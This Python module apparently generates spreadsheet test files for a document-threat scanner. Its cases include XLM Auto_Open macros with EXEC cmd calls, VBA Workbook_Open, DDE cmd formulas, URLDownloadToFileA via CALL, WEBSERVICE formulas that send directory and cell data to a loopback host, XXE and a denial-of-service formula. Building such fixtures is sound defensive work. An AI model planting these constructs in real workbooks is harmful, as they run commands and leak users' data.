"""Workbooks: XLSX and what carries code, by hand."""
from . import compound, either, refused, threat, unc, url
from .package import HEAD, MS, OFFICE, R, escape, package

NS = f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{R}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
SHEET = OFFICE + "spreadsheetml."
MAIN = SHEET + "sheet.main+xml"
MACRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
XDR = 'xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'


def part(root, inner="", more=""):
    return f"{HEAD}<{root} {NS} {more}>{inner}</{root}>"


def cell(reference, text):
    return f'<c r="{reference}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def formula(text, value="7", reference="B2", more=""):
    return f'<c r="{reference}"><f {more}>{escape(text)}</f><v>{value}</v></c>'


def workbook(keep, cells="", rows="", after="", sheet_rels=(), rels=(), parts=None, types=None, more_rels=None, main=MAIN, names="", sheets=(), book="", before="", package_rels=(), defaults=None, head=""):
    """An XLSX; `cells` stand in row 2, `after` behind the data, `sheets` are (name, state, rel, part, root, inner)."""
    sheet = part("worksheet", f'{before}<sheetData><row r="1">{cell("A1", f"令和8年度 {keep}")}</row><row r="2">{cells}</row>{rows}</sheetData>{after}')
    parts = {"xl/worksheets/sheet1.xml": head + sheet.removeprefix(HEAD if head else ""), **(parts or {})}
    types = {"xl/workbook.xml": main, "xl/worksheets/sheet1.xml": SHEET + "worksheet+xml", **(types or {})}
    listed, mine = '<sheet name="一覧" sheetId="1" r:id="rIdS1"/>', [("rIdS1", "worksheet", "worksheets/sheet1.xml"), *rels]
    for number, (name, state, kind, target, root, inner, type) in enumerate(sheets, 2):
        listed += f'<sheet name="{name}" sheetId="{number}" state="{state}" r:id="rIdS{number}"/>'
        mine.append((f"rIdS{number}", kind, target))
        parts[f"xl/{target}"] = part(root, inner)
        types[f"xl/{target}"] = type
    parts["xl/workbook.xml"] = part("workbook", f"<sheets>{listed}</sheets>{book}" + (f"<definedNames>{names}</definedNames>" if names else ""))
    every = {"": [("rIdBook", "officeDocument", "xl/workbook.xml"), *package_rels], "xl/workbook.xml": mine, **(more_rels or {})}
    if sheet_rels:
        every["xl/worksheets/sheet1.xml"] = sheet_rels
    return package(parts, every, types, defaults)


def xlsx(id, ja, build, **more):
    threat("xlsx", id, ja, build, **more)


# Macro sheets.
MACROSHEET = f"{MS}/2006/relationships/xlMacrosheet"


def macro_sheet(live, state, kind=MACROSHEET, type="application/vnd.ms-excel.macrosheet+xml", folder="macrosheets"):
    call = f'EXEC("cmd /c echo {live}")'
    return ("Macro1", state, kind, f"{folder}/sheet2.xml", "xm:macrosheet", f'<sheetData><row r="1">{formula(call, "0", "A1")}</row><row r="2">{formula("HALT()", "0", "A2")}</row></sheetData>', type)


OPEN = '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
for state in ("visible", "hidden", "veryHidden"):
    xlsx(f"xlm-{state.lower()}", f"Excel 4.0 マクロシート（{state}、Auto_Open）", lambda live, keep, s=state: workbook(keep, sheets=[macro_sheet(live, s)], names=OPEN, main=MACRO))
xlsx("xlm-international", "国際版マクロシート（xlIntlMacrosheet）", lambda live, keep: workbook(
    keep, sheets=[macro_sheet(live, "hidden", f"{MS}/2006/relationships/xlIntlMacrosheet", "application/vnd.ms-excel.intlmacrosheet+xml", "intlMacrosheets")], names=OPEN, main=MACRO))
xlsx("xlm-as-worksheet", "通常シートに見せかけたマクロシート", lambda live, keep: workbook(
    keep, sheets=[macro_sheet(live, "hidden", MACROSHEET, SHEET + "worksheet+xml", "worksheets")], names=OPEN))
xlsx("dialogsheet", "ダイアログシート", lambda live, keep: workbook(
    keep, sheets=[("D", "visible", "dialogsheet", "dialogsheets/sheet2.xml", "dialogsheet", f"<sheetProtection/><oleObjects><oleObject progId='{live}' shapeId='1'/></oleObjects>", SHEET + "dialogsheet+xml")]))


def with_vba(live, keep, main):
    return workbook(keep, rels=[("rIdV", f"{MS}/2006/relationships/vbaProject", "vbaProject.bin")], parts={"xl/vbaProject.bin": compound.vba_bin(live, "Workbook_Open")}, types={"xl/vbaProject.bin": "application/vnd.ms-office.vbaProject"}, main=main,
        before='<sheetPr codeName="Sheet1"/>', book="")


threat("xlsm", "vba", "VBA マクロ（Workbook_Open）", lambda live, keep: with_vba(live, keep, MACRO))
threat("xltm", "vba-template", "マクロ付きテンプレート", lambda live, keep: with_vba(live, keep, "application/vnd.ms-excel.template.macroEnabled.main+xml"))
either("xlam", "vba-addin", "アドイン（xlam）", lambda live, keep: with_vba(live, keep, "application/vnd.ms-excel.addin.macroEnabled.main+xml"), keep=False)
xlsx("vba-renamed", "xlsx と名乗るマクロ付きブック", lambda live, keep: with_vba(live, keep, MACRO))

# What reaches outside.
EXTERNAL = SHEET + "externalLink+xml"
xlsx("external-book", "外部ブックへの参照（externalLink）", lambda live, keep: workbook(
    keep, formula("[1]Sheet1!$A$1"), rels=[("rIdX", "externalLink", "externalLinks/externalLink1.xml")], book='<externalReferences><externalReference r:id="rIdX"/></externalReferences>',
    parts={"xl/externalLinks/externalLink1.xml": part("externalLink", '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>')}, types={"xl/externalLinks/externalLink1.xml": EXTERNAL},
    more_rels={"xl/externalLinks/externalLink1.xml": [("rId1", "externalLinkPath", url(live, "b.xlsx"), "External")]}))
xlsx("dde-link", "DDE リンク（ddeLink）", lambda live, keep: workbook(
    keep, formula("[1]!'!A0'"), rels=[("rIdX", "externalLink", "externalLinks/externalLink1.xml")], book='<externalReferences><externalReference r:id="rIdX"/></externalReferences>',
    parts={"xl/externalLinks/externalLink1.xml": part("externalLink", f'<ddeLink ddeService="cmd" ddeTopic="/c echo {live}"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>')}, types={"xl/externalLinks/externalLink1.xml": EXTERNAL}))
xlsx("ole-link", "OLE リンク（oleLink、UNC）", lambda live, keep: workbook(
    keep, rels=[("rIdX", "externalLink", "externalLinks/externalLink1.xml")], book='<externalReferences><externalReference r:id="rIdX"/></externalReferences>',
    parts={"xl/externalLinks/externalLink1.xml": part("externalLink", '<oleLink r:id="rId1" progId="htmlfile"><oleItems><oleItem name="x" advise="1"/></oleItems></oleLink>')}, types={"xl/externalLinks/externalLink1.xml": EXTERNAL},
    more_rels={"xl/externalLinks/externalLink1.xml": [("rId1", "oleObject", "file:///" + unc(live), "External")]}))
xlsx("connections", "外部データ接続とクエリ（connections、queryTable）", lambda live, keep: workbook(
    keep, rels=[("rIdC", "connections", "connections.xml")], sheet_rels=[("rId1", "queryTable", "../queryTables/queryTable1.xml")],
    parts={"xl/connections.xml": part("connections", f'<connection id="1" name="c" type="4" refreshOnLoad="1" refreshedVersion="6" odcFile="{url(live)}"><webPr url="{url(live)}"/></connection><connection id="2" name="d" type="5" refreshedVersion="6"><dbPr connection="Provider=MSDASQL;DSN={live}" command="x"/></connection>'),
           "xl/queryTables/queryTable1.xml": part("queryTable", "", f'name="q" connectionId="1" refreshOnLoad="1"')},
    types={"xl/connections.xml": SHEET + "connections+xml", "xl/queryTables/queryTable1.xml": SHEET + "queryTable+xml"}))
xlsx("data-model", "データモデル（PowerPivot）", lambda live, keep: workbook(
    keep, rels=[("rIdM", "powerPivotData", "model/item.data")], parts={"xl/model/item.data": live * 9}, types={"xl/model/item.data": OFFICE + "model+data"}))
FORMULAS = [
    ("webservice", "WEBSERVICE 関数", '_xlfn.WEBSERVICE("http://127.0.0.1/{0}"&A1)'), ("filterxml", "FILTERXML・WEBSERVICE の組み合わせ", '_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://127.0.0.1/{0}"),"//x")'),
    ("rtd", "RTD 関数", 'RTD("{0}.Server","127.0.0.1","x")'), ("call", "CALL 関数", 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://127.0.0.1/{0}","x",0,0)'),
    ("register", "REGISTER.ID 関数", 'REGISTER.ID("{0}","WinExec","JCJ")'), ("exec", "EXEC 関数（通常シート）", 'EXEC("cmd /c echo {0}")'), ("image", "IMAGE 関数", '_xlfn.IMAGE("http://127.0.0.1/{0}.png")'),
    ("hyperlink-file", "HYPERLINK 関数（file:）", 'HYPERLINK("file:///C:/{0}.exe","開く")'), ("hyperlink-concat", "HYPERLINK 関数（連結で情報を送る）", 'HYPERLINK("http://127.0.0.1/{0}?"&A1,"開く")'),
    ("dde", "DDE の数式（cmd|）", "cmd|'/c echo {0}'!A0"), ("dde-service", "DDE の数式（MSEXCEL|）", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c {0}'!''"), ("external-path", "数式の中の外部パス", "'\\\\127.0.0.1\\{0}\\[b.xlsx]S'!$A$1"),
    ("external-http", "数式の中の外部ブック（http）", "'http://127.0.0.1/{0}/[b.xlsx]S'!A1"), ("indirect", "INDIRECT による外部参照", 'INDIRECT("\'[http://127.0.0.1/{0}.xlsx]S\'!A1")'), ("sql-request", "SQL.REQUEST 関数", 'SQL.REQUEST("DSN={0}",,2,"x",TRUE)'),
    ("cube", "CUBEVALUE 関数", 'CUBEVALUE("{0}","[x]")'), ("stock", "STOCKHISTORY 関数", '_xlfn.STOCKHISTORY("{0}",1)'), ("python", "PY 関数（Python）", '_xlfn._xlws.PY(0,1,"{0}")'), ("unknown", "未知の関数", '_xludf.EVIL("{0}")'),
    ("case-and-space", "大文字小文字・空白で隠した関数", '_xlfn.WebService (  "http://127.0.0.1/{0}" )'), ("lambda", "LET・LAMBDA の中の WEBSERVICE", '_xlfn.LET(_xlpm.x,_xlfn.WEBSERVICE("http://127.0.0.1/{0}"),_xlpm.x)'),
    ("info", "INFO・CELL 関数（環境の開示）と送信", '_xlfn.WEBSERVICE("http://127.0.0.1/{0}?"&INFO("directory")&CELL("filename"))'), ("macro-call", "マクロ関数の呼び出し（Personal.xlsb!）", "'{0}.xlsm'!Evil()"), ("split-string", "分割した文字列からの参照", 'HYPERLINK("ht"&"tp://127.0.0.1/{0}","x")'),
]
for id, ja, text in FORMULAS:
    xlsx(f"formula-{id}", ja, lambda live, keep, t=text: workbook(keep, formula(t.format(live))))
WEB = '_xlfn.WEBSERVICE("http://127.0.0.1/{0}")'
xlsx("formula-shared", "共有数式の中の WEBSERVICE", lambda live, keep: workbook(keep, formula(WEB.format(live), more='t="shared" ref="B2:B3" si="0"'), rows='<row r="3"><c r="B3"><f t="shared" si="0"/><v>7</v></c></row>'))
xlsx("formula-array", "配列数式の中の WEBSERVICE", lambda live, keep: workbook(keep, formula(WEB.format(live), more='t="array" ref="B2:B3" aca="1"')))
xlsx("formula-data-table", "データテーブル数式（r1、外部）", lambda live, keep: workbook(keep, formula(WEB.format(live), more='t="dataTable" ref="B2:B3" r1="A1" dt2D="0"')))
xlsx("formula-conditional", "条件付き書式の中の WEBSERVICE", lambda live, keep: workbook(keep, after=f'<conditionalFormatting sqref="A1"><cfRule type="expression" dxfId="0" priority="1"><formula>{escape(WEB.format(live))}</formula></cfRule></conditionalFormatting>'))
xlsx("formula-validation", "入力規則の中の外部参照", lambda live, keep: workbook(keep, after=f'<dataValidations count="1"><dataValidation type="list" sqref="A2"><formula1>{escape(WEB.format(live))}</formula1></dataValidation></dataValidations>'))
xlsx("formula-validation-extended", "拡張入力規則（x14）の中の外部参照", lambda live, keep: workbook(keep, after=f'<extLst><ext uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}"><x14:dataValidations count="1"><x14:dataValidation type="list"><x14:formula1><xm:f>{escape(WEB.format(live))}</xm:f></x14:formula1><xm:sqref>A2</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>'))
xlsx("formula-sparkline", "スパークラインの中の外部参照", lambda live, keep: workbook(keep, after=f"<extLst><ext uri=\"{{05C60535-1F16-4fd2-B633-F4F36F0B64E0}}\"><x14:sparklineGroups><x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>'[{url(live)}]S'!A1:A9</xm:f><xm:sqref>A2</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>"))
xlsx("formula-name", "名前の定義の中の WEBSERVICE", lambda live, keep: workbook(keep, formula("evil"), names=f'<definedName name="evil">{escape(WEB.format(live))}</definedName>'))
xlsx("name-auto-open", "名前 Auto_Open（外部マクロの呼び出し）", lambda live, keep: workbook(keep, names=f"<definedName name=\"Auto_Open\" xlm=\"1\" function=\"1\" hidden=\"1\">'{live}.xlam'!Evil</definedName>"))
xlsx("name-vb-procedure", "名前（vbProcedure、XLM 関数）", lambda live, keep: workbook(keep, names=f'<definedName name="f" function="1" vbProcedure="1" xlm="1">"{live}"</definedName><definedName name="g">EVALUATE(GET.CELL(6,"{live}"))</definedName>'), live="inert")
xlsx("name-print-area", "印刷範囲の名前の中の外部参照", lambda live, keep: workbook(keep, names=f"<definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">'[{url(live)}]S'!$A$1</definedName>"))
xlsx("table-formula", "テーブルの計算列の中の WEBSERVICE", lambda live, keep: workbook(
    keep, cell("A2", "a") , after='<tableParts count="1"><tablePart r:id="rId1"/></tableParts>', sheet_rels=[("rId1", "table", "../tables/table1.xml")],
    parts={"xl/tables/table1.xml": part("table", f'<tableColumns count="1"><tableColumn id="1" name="列" queryTableFieldId="1"><calculatedColumnFormula>{escape(WEB.format(live))}</calculatedColumnFormula></tableColumn></tableColumns>', 'id="1" name="T" displayName="T" ref="A1:A2" connectionId="1"')},
    types={"xl/tables/table1.xml": SHEET + "table+xml"}))
xlsx("pivot-external", "外部を更新するピボット（refreshOnLoad）", lambda live, keep: workbook(
    keep, rels=[("rIdP", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")], book='<pivotCaches><pivotCache cacheId="1" r:id="rIdP"/></pivotCaches>',
    parts={"xl/pivotCache/pivotCacheDefinition1.xml": part("pivotCacheDefinition", f'<cacheSource type="worksheet"><worksheetSource r:id="rId1" ref="A1:B2" sheet="{live}"/></cacheSource><cacheFields count="0"/>', 'refreshOnLoad="1" refreshedBy="someone"')},
    types={"xl/pivotCache/pivotCacheDefinition1.xml": SHEET + "pivotCacheDefinition+xml"},
    more_rels={"xl/pivotCache/pivotCacheDefinition1.xml": [("rId1", "externalLinkPath", url(live), "External")]}))
xlsx("volatile-rtd", "RTD の購読（volatileDependencies）", lambda live, keep: workbook(
    keep, rels=[("rIdD", "volatileDependencies", "volatileDependencies.xml")], parts={"xl/volatileDependencies.xml": part("volTypes", f'<volType type="realTimeData"><main first="{live}"><tp t="s"><v>1</v><stp>127.0.0.1</stp><tr r="B2" s="1"/></tp></main></volType>')}, types={"xl/volatileDependencies.xml": SHEET + "volatileDependencies+xml"}))
for id, target in (("file", "file:///C:/{0}.exe"), ("unc", r"\\127.0.0.1\{0}\x.exe"), ("javascript", "javascript:{0}"), ("ms-excel", "ms-excel:ofv|u|http://127.0.0.1/{0}"), ("search-ms", "search-ms:query={0}")):
    xlsx(f"hyperlink-{id}", f"許可されていない宛先のハイパーリンク（{id}）", lambda live, keep, t=target: workbook(keep, after='<hyperlinks><hyperlink ref="A1" r:id="rId1" tooltip="x"/></hyperlinks>', sheet_rels=[("rId1", "hyperlink", t.format(live), "External")]))
xlsx("background-picture", "シートの背景・外部画像", lambda live, keep: workbook(keep, after='<picture r:id="rId1"/>', sheet_rels=[("rId1", "image", url(live), "External")]))
xlsx("web-publishing", "Web 発行（webPublishItems）", lambda live, keep: workbook(keep, after=f'<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="{unc(live)}" autoRepublish="1"/></webPublishItems>'))


# Controls, objects and drawings.
def drawing(inner, rels=()):
    return {"xl/drawings/drawing1.xml": f'{HEAD}<xdr:wsDr {XDR} xmlns:r="{R}"><xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="9144" cy="9144"/>{inner}<xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>'}


SHAPE = '<xdr:sp macro="{0}" textlink="{1}"><xdr:nvSpPr><xdr:cNvPr id="2" name="ボタン">{2}</xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:sp>'
DRAWING = {"xl/drawings/drawing1.xml": OFFICE + "drawing+xml"}
TO_DRAWING = [("rId1", "drawing", "../drawings/drawing1.xml")]
xlsx("shape-macro", "図形に割り当てたマクロ", lambda live, keep: workbook(keep, after='<drawing r:id="rId1"/>', sheet_rels=TO_DRAWING, parts=drawing(SHAPE.format(f"[0]!{live}", "", "")), types=DRAWING))
xlsx("shape-textlink", "図形の外部セル連結（textlink）", lambda live, keep: workbook(keep, after='<drawing r:id="rId1"/>', sheet_rels=TO_DRAWING, parts=drawing(SHAPE.format("", f"&apos;[{url(live)}]S&apos;!A1", "")), types=DRAWING))
xlsx("shape-link", "図形のリンク（file:）", lambda live, keep: workbook(
    keep, after='<drawing r:id="rId1"/>', sheet_rels=TO_DRAWING, parts=drawing(SHAPE.format("", "", '<a:hlinkClick r:id="rId9"/>')), types=DRAWING, more_rels={"xl/drawings/drawing1.xml": [("rId9", "hyperlink", f"file:///C:/{live}.exe", "External")]}))
xlsx("linked-picture", "外部画像（r:link）", lambda live, keep: workbook(
    keep, after='<drawing r:id="rId1"/>', sheet_rels=TO_DRAWING, types=DRAWING, more_rels={"xl/drawings/drawing1.xml": [("rId9", "image", url(live), "External")]},
    parts=drawing('<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link="rId9"/></xdr:blipFill><xdr:spPr/></xdr:pic>')))
xlsx("form-control", "フォームコントロール（マクロ付き）", lambda live, keep: workbook(
    keep, after=f'<legacyDrawing r:id="rId2"/><controls><control shapeId="1025" r:id="rId1" name="b"><controlPr macro="[0]!{live}"/></control></controls>', sheet_rels=[("rId1", "ctrlProp", "../ctrlProps/ctrlProp1.xml"), ("rId2", "vmlDrawing", "../drawings/vmlDrawing1.vml")],
    parts={"xl/ctrlProps/ctrlProp1.xml": f'{HEAD}<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" fmlaMacro="{live}"/>',
           "xl/drawings/vmlDrawing1.vml": f'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="s" type="#t"><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!{live}</x:FmlaMacro></x:ClientData></v:shape></xml>'},
    types={"xl/ctrlProps/ctrlProp1.xml": "application/vnd.ms-excel.controlproperties+xml"}))
xlsx("activex", "ActiveX コントロール", lambda live, keep: workbook(
    keep, after='<controls><control shapeId="1025" r:id="rId1" name="b"/></controls>', sheet_rels=[("rId1", "control", "../activeX/activeX1.xml")],
    parts={"xl/activeX/activeX1.xml": f'{HEAD}<ax:ocx xmlns:ax="{MS}/2006/activeX" ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}"><ax:ocxPr ax:name="x" ax:value="{live}"/></ax:ocx>'}, types={"xl/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"}))
xlsx("ole-object", "埋め込み OLE", lambda live, keep: workbook(
    keep, after='<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId1" oleUpdate="OLEUPDATE_ALWAYS"/></oleObjects>', sheet_rels=[("rId1", "oleObject", "../embeddings/oleObject1.bin")], parts={"xl/embeddings/oleObject1.bin": compound.ole_package(live)}))
xlsx("ole-linked", "リンク OLE（外部、link=）", lambda live, keep: workbook(
    keep, after=f"<oleObjects><oleObject progId=\"htmlfile\" link=\"[1]!'{live}'\" oleUpdate=\"OLEUPDATE_ALWAYS\" shapeId=\"1025\" r:id=\"rId1\"/></oleObjects>", sheet_rels=[("rId1", "oleObject", url(live), "External")]))
CHART = {"xl/charts/chart1.xml": OFFICE + "drawingml.chart+xml"}


def with_chart(live, keep):
    from .word import chart
    frame = '<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="c"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="9" cy="9"/></xdr:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId9"/></a:graphicData></a:graphic></xdr:graphicFrame>'
    return workbook(keep, after='<drawing r:id="rId1"/>', sheet_rels=TO_DRAWING, parts={**drawing(frame), "xl/charts/chart1.xml": chart(live)}, types={**DRAWING, **CHART},
        more_rels={"xl/drawings/drawing1.xml": [("rId9", "chart", "../charts/chart1.xml")], "xl/charts/chart1.xml": [("rId1", "oleObject", url(live), "External")]})


xlsx("chart-external", "グラフの外部参照（系列の数式、externalData）", with_chart)

# What hides or leaks.
EXTRAS = [
    ("printer-settings", "プリンター設定（DEVMODE）", "printerSettings", "printerSettings/printerSettings1.bin", SHEET + "printerSettings"),
    ("custom-property", "シートの独自プロパティ", "customProperty", "customProperty/customProperty1.bin", SHEET + "customProperty"),
]
for id, ja, kind, target, type in EXTRAS:
    xlsx(id, ja, lambda live, keep, k=kind, t=target, y=type: workbook(keep, sheet_rels=[("rId1", k, "../" + t)], parts={"xl/" + t: live * 4}, types={"xl/" + t: y}, after='<pageSetup r:id="rId1"/>' if k == "printerSettings" else '<customProperties><customPr name="x" r:id="rId1"/></customProperties>'))
BOOK_EXTRAS = [
    ("xml-maps", "XML マップ", "xmlMaps", "xmlMaps.xml", "application/xml", '<MapInfo SelectionNamespaces=""><Schema ID="S"><x>{0}</x></Schema><Map ID="1" Name="m" RootElement="x" SchemaID="S"><DataBinding FileBinding="true" DataBindingLoadMode="1" URL="http://127.0.0.1/{0}"/></Map></MapInfo>'),
    ("rich-data", "リッチデータ（Web 画像）", "http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage", "richData/rdRichValueWebImage.xml", "application/vnd.ms-excel.rdrichvaluewebimage+xml", "<webImagesSrd>{0}</webImagesSrd>"),
    ("shared-history", "共有ブックの変更履歴", "revisionHeaders", "revisions/revisionHeaders.xml", SHEET + "revisionHeaders+xml", '<headers guid="x"><header userName="{0}"/></headers>'),
    ("persons", "コメント投稿者の個人情報（persons）", "http://schemas.microsoft.com/office/2017/10/relationships/person", "persons/person.xml", "application/vnd.ms-excel.person+xml", '<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><person displayName="{0}" id="{{0}}" userId="S::{0}" providerId="AD"/></personList>'),
    ("toolbars", "添付ツールバー", "http://schemas.microsoft.com/office/2006/relationships/attachedToolbars", "attachedToolbars.bin", "application/vnd.ms-excel.attachedToolbars", "{0}"),
    ("custom-data", "customData・power query", "http://schemas.microsoft.com/office/2006/relationships/customData", "customData/item1.data", "application/binary", "{0}"),
]
for id, ja, kind, target, type, content in BOOK_EXTRAS:
    xlsx(id, ja, lambda live, keep, k=kind, t=target, y=type, c=content: workbook(keep, rels=[("rIdE", k, t)], parts={"xl/" + t: HEAD + c.replace("{0}", live).replace("{{", "{").replace("}}", "}")}, types={"xl/" + t: y}))
xlsx("power-query", "Power Query（customXml の DataMashup）", lambda live, keep: workbook(keep, rels=[("rIdE", "customXml", "../customXml/item1.xml")], parts={"customXml/item1.xml": f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{live}</DataMashup>'}))
xlsx("very-hidden-sheet", "veryHidden のシート", lambda live, keep: workbook(
    keep, sheets=[("隠し", "veryHidden", "worksheet", "worksheets/sheet2.xml", "worksheet", f'<sheetData><row r="1">{cell("A1", live)}</row></sheetData>', SHEET + "worksheet+xml")]), live="reported")
xlsx("ribbon", "リボンの独自 UI（onAction）", lambda live, keep: workbook(keep, package_rels=[("rIdUi", f"{MS}/2006/relationships/ui/extensibility", "customUI/customUI.xml")], parts={"customUI/customUI.xml": f'<customUI xmlns="{MS}/2006/01/customui" onLoad="{live}"><ribbon><tabs><tab id="t"><group id="g"><button id="b" onAction="{live}"/></group></tab></tabs></ribbon></customUI>'}))
xlsx("core-properties", "作成者などの付帯情報", lambda live, keep: workbook(
    keep, package_rels=[("rIdCore", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml")],
    parts={"docProps/core.xml": f'{HEAD}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{live}</dc:creator></cp:coreProperties>'}, types={"docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml"}))
xlsx("alternate-path", "元の保存先（absPath、fileRecovery）", lambda live, keep: workbook(keep, book=f'<mc:AlternateContent><mc:Choice Requires="x15"><x15ac:absPath url="C:\\Users\\{live}\\" xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"/></mc:Choice></mc:AlternateContent>'))

# The reader's parser.
either("xlsx", "xxe", "外部実体（XXE）", lambda live, keep: workbook(keep, head=f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{url(live)}">]>'), keep=False)
either("xlsx", "huge-range", "巨大な範囲・結合・列（応答不能を狙う）", lambda live, keep: workbook(keep, formula("SUM(A1:XFD1048576)"), rows=f'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><!--{live}-->', after='<mergeCells count="1"><mergeCell ref="A3:XFD1048575"/></mergeCells>'))
either("xlsx", "deep-formula", "深すぎる数式", lambda live, keep: workbook(keep, formula("(" * 50000 + f'"{live}"' + ")" * 50000)))
either("xlsx", "sst-index", "共有文字列の範囲外を指すセル", lambda live, keep: workbook(keep, '<c r="B2" t="s"><v>4294967295</v></c>', rows=f"<!--{live}-->"))
threat("xlsx", "velvet-sweatshop", "既定のパスワード（VelvetSweatshop）で暗号化したマクロ付きブック", lambda live, keep: velvet(live, keep))
refused("xlsx", "password", "開くためのパスワードがかかったブック", lambda live, keep: password(live, keep))


def velvet(live, keep):
    from .word import encrypted
    return encrypted(with_vba(live, keep, MACRO), "VelvetSweatshop")


def password(live, keep):
    from .word import encrypted
    return encrypted(workbook(keep), live)


# Japanese office work.
def municipal(live, keep):
    styles = f'<numFmts count="1"><numFmt numFmtId="176" formatCode="[$-411]ggge&quot;年&quot;m&quot;月&quot;d&quot;日&quot;;@"/></numFmts><fonts count="1"><font><sz val="11"/><name val="ＭＳ 明朝"/><charset val="128"/></font></fonts><fills count="1"><fill><patternFill/></fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2"><xf/><xf numFmtId="176" applyNumberFormat="1" applyAlignment="1"><alignment horizontal="distributed" textRotation="255"/></xf></cellXfs>'
    name = "髙﨑 𠮷田 葛\U000E0100 \ue000 ㈱①"
    cells = cell("A2", name) + '<c r="B2" s="1"><v>46350</v></c>' + formula(WEB.format(live), reference="C2")
    phonetic = '<row r="3"><c r="A3" t="inlineStr"><is><r><t>伊万里</t></r><rPh sb="0" eb="3"><t>イマリ</t></rPh></is></c></row>'
    return workbook(keep, cells, rows=phonetic, after='<mergeCells count="2"><mergeCell ref="A1:H1"/><mergeCell ref="D2:H4"/></mergeCells>', rels=[("rIdSt", "styles", "styles.xml")], parts={"xl/styles.xml": part("styleSheet", styles)}, types={"xl/styles.xml": SHEET + "styles+xml"})


xlsx("municipal-form", "日本の様式（和暦、縦書き、ふりがな、外字、結合セル）の中の WEBSERVICE", municipal)
